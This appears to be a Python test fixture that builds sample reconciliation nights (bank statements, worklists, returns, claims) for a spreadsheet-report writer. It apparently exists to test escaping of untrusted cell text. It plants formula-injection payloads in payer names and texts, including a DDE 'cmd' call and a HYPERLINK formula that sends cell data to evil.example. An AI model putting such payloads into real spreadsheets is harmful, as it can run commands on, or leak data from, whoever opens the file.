"""Nights to write workbooks of: a realistic one with everything awkward people and banks send, and an empty one."""

from __future__ import annotations

from reconcile.reports.night import (
    ATTENTION,
    CERTIFICATE,
    CLAIMS,
    MATCHED,
    OK,
    ON_ACCOUNT,
    OPEN_ITEMS,
    RETURNS,
    RUN,
    STATEMENTS,
    WORKLIST,
    AgeingRow,
    Answer,
    Bar,
    CertificateRow,
    FileRow,
    Hurt,
    InstalmentRow,
    KeyFigure,
    MatchedRow,
    Night,
    NotCustomerRow,
    OnAccountRow,
    OpenItemRow,
    ReturnRow,
    StatementRow,
    Step,
    Total,
    WorklistRow,
)
from reconcile.reports.night_claims import ClaimRow

OURS = ("LV43DZIN0000012345678", "LV67AUST0551000283141", "LV12KURZ0000000998877", "LV90ZEMG1234567890123")
THEIRS = "LV05DZIN0000087654321"
HOSTILE = "=cmd|'/C calc'!A0"
HOSTILE_TEXTS = (
    HOSTILE,
    "+371 20000000",
    "-1+1",
    "@SUM(A1:A9)",
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "http://evil.example/",
    "internal:Run!A1",
    "<r><t>raw</t></r></is></c><c><f>1+1</f></c>",
    "{=1+1}",
    "mailto:a@example.com",
)
LONG = "Par elektrību martā, līgums 1002003017, rādījumi 004512–004688 kWh, Ķekavas novads, Ziedoņu iela 12–4. " * 4
TOO_LONG = "garš 🎉 teksts " * 4_000

WORKLIST_ROWS = (
    WorklistRow(
        "new",
        "2026-03-31",
        0,
        "0000045512",
        "2026-03-31",
        125_40,
        "EUR",
        "Žanete Ķirškalne-Paraudziņa",
        THEIRS,
        "Par elektrību, līg. 1002003071",
        "one digit differs from contract 1002003017, and the sum is an open item of 1002003017",
        "1002003017",
        "0002003071",
        "",
        "a reminder goes out on 2026-04-02",
    ),
    WorklistRow(
        "new",
        "2026-03-31",
        0,
        "NONREF/7",
        "2026-03-31",
        1_840_00,
        "EUR",
        "SIA “Ēku uzskaite”",
        THEIRS,
        "par visiem līgumiem martā",
        "this account has paid 14 contracts, and the text names none",
        "1002003017",
        "1002004400",
        "1002009918",
        "14 customers look overdue",
    ),
    WorklistRow(
        "still",
        "2026-03-19",
        12,
        "0000041877",
        "2026-03-19",
        48_00,
        "EUR",
        HOSTILE,
        "",
        LONG,
        "the text names no number, and the name alone decides nothing",
        "",
        "",
        "",
        "",
    ),
    WorklistRow(
        "still",
        "2026-03-02",
        29,
        "0000039001",
        "2026-03-02",
        7_000,
        "JPY",
        "山田太郎テスト",
        "",
        "電気料金 🎌 2026年3月",
        "the currency is none of ours",
        "",
        "",
        "",
        "",
    ),
    WorklistRow(
        "still",
        "2026-02-27",
        32,
        "0000038100",
        "2026-02-27",
        19_99,
        "EUR",
        "שלום לדוגמה",
        THEIRS,
        "תשלום עבור חשמל\u202e 99.91\u202c",
        "a closed contract without open items",
        "0000000042",
        "",
        "",
        "",
    ),
)


def matched_row(number: int) -> MatchedRow:
    """One ordinary allocation."""
    names = ("Anna Paraudziņa", "Jēkabs Izdomātais", "SIA Ķiršu ceļš", "Māra Nekurienes-Šķēle", "Oļegs Piemērs")
    contract = f"{1_002_003_000 + number * 17:010}"
    rules = ("named invoice", "contract number in the text", "payer's history", "e-invoice id")
    return MatchedRow(
        f"{46_000 + number:010}",
        OURS[number % 4],
        f"2026-03-{number % 31 + 1:02}",
        names[number % 5],
        45_90 + number % 9_000,
        "EUR",
        contract,
        names[number % 5],
        f"R-2026-{number:06}",
        45_90 + number % 9_000,
        rules[number % 4],
        f"contract {contract} stands in the text “Par elektrību, līg. {contract}”; the sum equals invoice R-2026-{number:06}",
    )


_CERTIFICATE_ROWS = (
    CertificateRow(OURS[0], "EUR", 1_204_00, 48_310_55, -912_40, 45_870_15, -212_40, 2_944_40, 1_104_40, 1_840_00, 0, 0),
    CertificateRow(OURS[1], "EUR", 310_25, 22_140_00, -65_00, 20_985_25, -15_00, 1_415_00, 395_00, 67_99, 952_01, 0),
    CertificateRow(OURS[2], "EUR", 0, 9_118_70, -4_05, 9_118_70, -4_05, 0, 0, 0, 0, 0),
    CertificateRow(OURS[2], "JPY", 7_000, 0, 0, 0, 0, 7_000, 0, 7_000, 0, 0),
    CertificateRow(OURS[3], "EUR", 0, 0, 0, 0, 0, 0, 0, 0, 0, 0),
)

_ANSWERS = (
    Answer(
        "Did every expected file come?",
        ATTENTION,
        "7 of 8 statements came; Zemgales banka …0123 has sent nothing for 2026-03-31.",
        STATEMENTS,
        4,
    ),
    Answer("Does every balance chain close?", OK, "All 7 statements close: opening + entries = closing = the next opening.", STATEMENTS),
    Answer("Is every cent placed?", OK, "81,085.60 EUR came and went, and the difference is 0.00 on each of 4 accounts.", CERTIFICATE),
    Answer(
        "Is anything unlike a normal night?",
        ATTENTION,
        "5 payments were returned by the banks (usual 1), and one payer account has paid for 14 contracts at once; both are among the items below.",
        RETURNS,
        1,
    ),
)

_HURTS = (
    Hurt(
        "Reminder would go out",
        "0000045512",
        125_40,
        "EUR",
        "Paid yesterday, but one digit differs from contract 1002003017; the reminder goes out on 2026-04-02.",
        WORKLIST,
        1,
    ),
    Hurt(
        "Many customers at once",
        "NONREF/7",
        1_840_00,
        "EUR",
        "An accountant paid for 14 contracts without naming one; 14 customers look overdue.",
        WORKLIST,
        2,
    ),
    Hurt("Autopay returned", "0000045777", -64_12, "EUR", "AC04, account closed: the customer believes that the bill is paid.", RETURNS, 1),
    Hurt(
        "Customer waits for an answer",
        "K-2026-0017",
        12_00,
        "EUR",
        "The list claims 12.00 more than we have booked; line 3 is another amount.",
        CLAIMS,
        2,
    ),
    Hurt("Paid twice", "0000044120", 45_90, "EUR", "A second payment of R-2026-000120 is held on the contract.", ON_ACCOUNT, 2),
    Hurt(HOSTILE, HOSTILE, 7_000, "JPY", HOSTILE, WORKLIST, 4),
)

_FIGURES = (
    KeyFigure("Payments in", 1_312, 1_288, 1_300),
    KeyFigure("Money in", 79_569_25, 78_002_10, 77_950_00, "EUR"),
    KeyFigure("Placed without a person", 1_301, 1_280, 1_291),
    KeyFigure("New on the worklist", 2, 5, 4),
    KeyFigure("Worklist, all", 5, 8, 7),
    KeyFigure("Unplaced at the end", 4_359_40, 1_514_25, 1_600_00, "EUR"),
    KeyFigure("Returned by banks", 5, 1, 1),
    KeyFigure("Open, overdue", 12_410_77, 12_990_01, None, "EUR"),
)

_BARS = (
    Bar("Dzintara …5678", 45_870_15, 1_104_40, 1_840_00, 0, -212_40),
    Bar("Austrumu …3141", 20_985_25, 395_00, 67_99, 952_01, -15_00),
    Bar("Kurzemes …8877", 9_118_70, 0, 0, 0, -4_05),
    Bar("Zemgales …0123", 0, 0, 0, 0, 0),
)

_RETURNS = (
    ReturnRow(
        "new",
        "0000045777",
        "2026-03-31",
        -64_12,
        "EUR",
        "Oļegs Piemērs",
        "1002005501",
        "0000044901",
        "2026-03-27",
        "AC04 account closed",
        "R-2026-000777",
        "the payment of 2026-03-27 went back; invoice R-2026-000777 is open again",
    ),
    ReturnRow(
        "still",
        "0000045102",
        "2026-03-24",
        -20_00,
        "EUR",
        HOSTILE,
        "",
        "",
        "",
        "MS03 no reason given",
        "",
        "two payments could be the one that went back",
    ),
)

_CLAIMS = (
    ClaimRow("K-2026-0017", 1, "1002003017", "2026-01-15", 45_90, 45_90, 0, "EUR", "agreed", "booked on 2026-01-15", "still"),
    ClaimRow(
        "K-2026-0017",
        3,
        "1002003017",
        "2026-03-12",
        57_90,
        45_90,
        12_00,
        "EUR",
        "amount_differs",
        "the payment of 2026-03-12 is 45.90, not 57.90",
        "new",
    ),
    ClaimRow("K-2026-0017", 4, "1002003017", "", None, None, 0, "EUR", "unreadable", "“30.02.2026” is no day", "new"),
    ClaimRow(
        "K-2026-0017",
        0,
        "1002003017",
        "2026-02-16",
        None,
        45_90,
        -45_90,
        "EUR",
        "not_claimed",
        "ours of 2026-02-16, which the list leaves out",
        "new",
    ),
)

_INSTALMENTS = (
    InstalmentRow("1002003017", "PLAN/1002003017/2026-03", "2026-03-20", 52_00, 52_00, 0, "EUR", "paid"),
    InstalmentRow("0002003018", "PLAN/0002003018/2026-03", "2026-03-20", 61_00, 0, 61_00, "EUR", "overdue"),
)

_OPEN_ITEMS = (
    OpenItemRow(
        "R-2026-000777",
        "R-2026-000777",
        "1002005501",
        "Oļegs Piemērs",
        "invoice",
        "2026-03-10",
        "2026-03-25",
        64_12,
        64_12,
        "EUR",
        6,
        "1-30",
    ),
    OpenItemRow("0000123", "0000123", "0002003018", "Anna Paraudziņa", "invoice", "2025-11-10", "2025-11-25", 90_00, 40_00, "EUR", 126, ">90"),
    OpenItemRow("BH-1", "BH-1", "0000000042", "Bahrain Demo", "invoice", "2026-03-10", "2026-04-25", 1_234_567, 1_234_567, "BHD", -25, "not due"),
    OpenItemRow("KR-77", "KR-77", "0002003018", "Anna Paraudziņa", "credit_note", "2026-03-01", "", -12_00, -12_00, "EUR", 0, "not due"),
)

_STATEMENTS = (
    StatementRow(OURS[0], "2026-03-31/090", "2026-03-31", "2026-03-31", "1-2 of 2", 120_400_10, 812, 48_310_55, -912_40, 167_798_25, "EUR", "yes"),
    StatementRow(OURS[1], "00031", "2026-03-31", "2026-03-31", "1 of 1", 5_000_00, 310, 22_140_00, -65_00, 27_075_00, "EUR", "yes"),
    StatementRow(
        OURS[2],
        "KB/2026/90",
        "2026-03-31",
        "2026-03-31",
        "",
        None,
        190,
        9_118_70,
        -4_05,
        None,
        "EUR",
        "unknown",
        "the statement shows no booked balance",
    ),
    StatementRow(
        OURS[3],
        "ZB-88",
        "2026-03-30",
        "2026-03-30",
        "1 of 1",
        700_00,
        0,
        0,
        0,
        699_99,
        "EUR",
        "no",
        "closing is 0.01 less than opening + entries",
    ),
)

_FILES = (
    FileRow("dzintara-banka-2026-03-31.xml", "camt.053.001.02", "taken", 812),
    FileRow("arhīvs-marts.zip!austrumu banka (31).xml", "camt.053.001.08", "taken", 310),
    FileRow("kurzemes-banka-2026-03-31.xml", "camt.052.001.02", "exists", 190, "came before with the same content"),
    FileRow(
        "zemgales-banka-2026-03-31.xml",
        "camt.053.001.10",
        "refused",
        0,
        "line 612: the file ends in the middle of an entry; ask the bank for it again",
    ),
)

TOTALS = (
    Total(WORKLIST, "amount_minor", "EUR", 2_033_39),
    Total(WORKLIST, "amount_minor", "JPY", 7_000),
    Total(ON_ACCOUNT, "amount_minor", "EUR", 1_499_40),
    Total(OPEN_ITEMS, "open_minor", "EUR", 92_12),
    Total(OPEN_ITEMS, "open_minor", "BHD", 1_234_567),
)


def realistic(matched: int = 60, **changed: object) -> Night:
    """The night of 31 March: four banks, one file cut, five on the worklist."""
    rows = [matched_row(number) for number in range(matched)]
    facts: dict[str, object] = {
        "run_id": "2026-03-31.1",
        "as_of": "2026-03-31",
        "version": "0.1.0",
        "answers": _ANSWERS,
        "hurts": _HURTS,
        "key_figures": _FIGURES,
        "bars": _BARS,
        "certificate": _CERTIFICATE_ROWS,
        "worklist": WORKLIST_ROWS,
        "matched": rows,
        "on_account": (
            OnAccountRow("1002003017", "Anna Paraudziņa", 1_453_50, "EUR", "2026-03-30", "0000045000", "paid before the bill"),
            OnAccountRow(
                "0002003018",
                HOSTILE,
                45_90,
                "EUR",
                "2026-03-28",
                "0000044120",
                "R-2026-000120 is paid already",
                "duplicate, until 2026-04-27",
            ),
        ),
        "not_customer": (
            NotCustomerRow(
                OURS[0],
                "2026-03-31",
                -12_40,
                "EUR",
                "",
                "",
                "Komisija par kontu",
                "bank fee",
                "bank transaction code ACMT/MDOP/CHRG",
                "0000045901",
            ),
            NotCustomerRow(
                OURS[1],
                "2026-03-31",
                -15_00,
                "EUR",
                "Zvaigzne Elektro",
                OURS[0],
                "Starp kontiem",
                "own transfer",
                "the account is ours",
                "0000045902",
            ),
        ),
        "returns": _RETURNS,
        "claims": _CLAIMS,
        "instalments": _INSTALMENTS,
        "ageing": (AgeingRow("EUR", -12_00, 64_12, 0, 0, 40_00, 92_12), AgeingRow("BHD", 1_234_567, 0, 0, 0, 0, 1_234_567)),
        "open_items": _OPEN_ITEMS,
        "statements": _STATEMENTS,
        "files": _FILES,
        "steps": (Step("import", 4, "one file refused"), Step("identify", 1_312), Step("allocate", 1_301), Step("certificate", 5)),
        "policy": (("Instalments open", "30 days before they are due"), ("Allocation order", "equal sum, oldest few, oldest due")),
        "counts": (("payments taken in", 1_312), ("payments placed", 1_301), ("on the worklist", 5)),
        "totals": (*TOTALS, Total(MATCHED, "allocated_minor", "EUR", sum(row.allocated_minor for row in rows))),
    }
    return Night(**{**facts, **changed})  # type: ignore[arg-type]


EMPTY = Night("2026-01-01.1", "2026-01-01", "0.1.0", answers=(Answer("Did every expected file come?", OK, "None was expected.", RUN),))
